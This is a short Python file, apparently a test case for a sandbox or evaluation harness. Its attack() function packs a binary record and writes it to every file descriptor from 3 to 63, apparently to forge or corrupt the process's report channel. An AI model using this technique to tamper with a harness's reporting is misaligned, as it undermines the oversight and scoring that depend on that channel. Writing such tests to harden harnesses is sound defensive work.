# class: logic
# The descriptors of the report and the channel are the process', not the machine's.
import os
import struct


def attack():
    record = struct.pack("<IIQQIIQ", 0x41445431, 1, 0, 0, 0, 0, 0)
    for number in range(1, 64):
        try:
            if number > 2:
                os.write(number, record)
        except OSError:
            pass
    return 0
